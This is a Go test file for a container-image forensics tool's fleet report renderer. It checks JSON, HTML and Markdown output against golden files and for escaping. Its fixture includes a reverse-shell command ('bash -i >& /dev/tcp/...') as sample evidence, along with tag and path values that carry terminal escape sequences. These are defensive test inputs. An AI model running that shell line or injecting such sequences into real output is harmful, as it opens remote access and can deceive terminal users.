package report

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/strata-forensics/strata/audit"
	"github.com/strata-forensics/strata/audit/fleet"
	"github.com/strata-forensics/strata/audit/trust"
)

var update = flag.Bool("update", false, "rewrite the golden files")

// testFleet is a small fleet view: a trusted family with an app, an implant in an untrusted
// base and the app built on it, an image added to no family, one that failed, and what was
// skipped, with evidence strings that need escaping in HTML and Markdown.
func testFleet() *fleet.Fleet {
	f := func(rule string, cat audit.Category, sev audit.Severity, layer int, path, sum, ev string) fleet.Finding {
		return fleet.Finding{Finding: audit.Finding{Rule: rule, Category: cat, Severity: sev, Layer: layer, Path: path,
			Title: "a <b>bold</b> | piped title", Evidence: ev, CreatedBy: "RUN make"}, SHA256: sum}
	}
	m := func(name string, chain []string, verdict string, fs ...fleet.Finding) fleet.Member {
		mm := fleet.Member{Name: name, Chain: chain, Status: fleet.StatusScanned, Verdict: verdict, Tags: []string{"reg/" + name + ":1"},
			ConfigDigest: "sha256:" + strings.Repeat(name[:1], 64), LayersRead: 1, LayersCached: len(chain) - 1}
		for _, x := range fs {
			mm.Summary[x.Severity]++
		}
		mm.Findings = fs
		return mm
	}
	d := func(c string) string { return "sha256:" + strings.Repeat(c, 64) }
	implant := f("STRATA-RS-001", audit.CategoryReverseShell, audit.Critical, 1, "/usr/local/bin/.sync", "0badc0de",
		"bash -i >& /dev/tcp/203.0.113.45/4444")
	implant.Indicators = []audit.Indicator{{Kind: audit.IndicatorIP, Value: "203.0.113.45"}}
	members := []fleet.Member{
		m("trusted-base", []string{d("a"), d("b")}, audit.VerdictClean),
		m("web", []string{d("a"), d("b"), d("c")}, audit.VerdictClean),
		m("evil-base", []string{d("e"), d("f")}, audit.VerdictSuspicious, implant),
		m("evil-app", []string{d("e"), d("f"), d("g")}, audit.VerdictSuspicious, implant,
			f("STRATA-SEC-002", audit.CategorySecret, audit.Medium, 2, "/app/.env", "5ec2e7", "AKIA****")),
		m("loner", []string{d("z"), d("y")}, audit.VerdictReview, f("STRATA-SUID-001", audit.CategorySUID, audit.Medium, 1, "/bin/x", "", "")),
		{Name: "broken.tar", Status: fleet.StatusFailed, Error: "layer 0: blob sha256:dead is missing from the image"},
	}
	// A tag and a file name that would retitle a terminal.
	members[3].Tags = append(members[3].Tags, "reg/evil\x1b]0;pwned\x07:latest")
	members[3].Findings[1].Path = "/app/.env\x1b[2J"
	trusted := []trust.Image{{ConfigDigest: "sha256:" + strings.Repeat("t", 64), Tags: []string{"reg/trusted-base:1"}, DiffIDs: []string{d("a"), d("b")}}}
	skipped := []fleet.Skipped{{Path: "export/NOTES.txt", Reason: "not a tar archive"}}
	return fleet.Build(members, trusted, skipped, fleet.Stats{Images: 6, Scanned: 5, Failed: 1, Skipped: 1,
		DistinctLayers: 7, LayerReads: 7, LayersCached: 6, BytesRead: 123456789, Seconds: 12.5})
}

// TestFleetFormats renders the fleet view in every format against goldens (go test -update
// rewrites them), and checks what each format must hold whatever the goldens say.
func TestFleetFormats(t *testing.T) {
	doc := FleetDocument{Fleet: testFleet()}
	for _, format := range Formats(KindFleet) {
		t.Run(format, func(t *testing.T) {
			var b bytes.Buffer
			if err := Render(&b, KindFleet, format, doc); err != nil {
				t.Fatal(err)
			}
			out := b.String()
			golden := filepath.Join("testdata", "fleet"+Extension(KindFleet, format))
			if *update {
				if err := os.WriteFile(golden, b.Bytes(), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatal(err)
			}
			if out != string(want) {
				t.Errorf("%s differs from %s (go test -update to accept):\n%s", format, golden, out)
			}
			switch format {
			case "json":
				var back struct {
					Images, Shared, Families, Clean, Skipped []any
					Stats                                    map[string]any
				}
				if err := json.Unmarshal(b.Bytes(), &back); err != nil || len(back.Images) != 6 || len(back.Shared) != 2 ||
					len(back.Families) != 3 || len(back.Clean) != 2 || len(back.Skipped) != 1 || back.Stats["layer_reads"] != 7.0 {
					t.Errorf("json does not read back: %v, %d images, %d shared", err, len(back.Images), len(back.Shared))
				}
			case "html":
				for _, bad := range []string{"<script", "<b>bold</b>", "http://", "https://", "<link", "<img"} {
					if strings.Contains(out, bad) {
						t.Errorf("html holds %q: not self-contained or not escaped", bad)
					}
				}
			case "md":
				if strings.Contains(out, "bold</b> | piped") || strings.Contains(out, "<b>") {
					t.Errorf("markdown holds an unescaped pipe or HTML in a table cell")
				}
			}
			if format != "json" && strings.ContainsAny(out, "\x1b\x07") {
				t.Errorf("%s holds a terminal control character from the evidence", format)
			}
			for _, want := range []string{"evil-base", "203.0.113.45", "reg/trusted-base:1", "broken.tar", "NOTES.txt"} {
				if !strings.Contains(out, want) {
					t.Errorf("%s lacks %q", format, want)
				}
			}
		})
	}
}
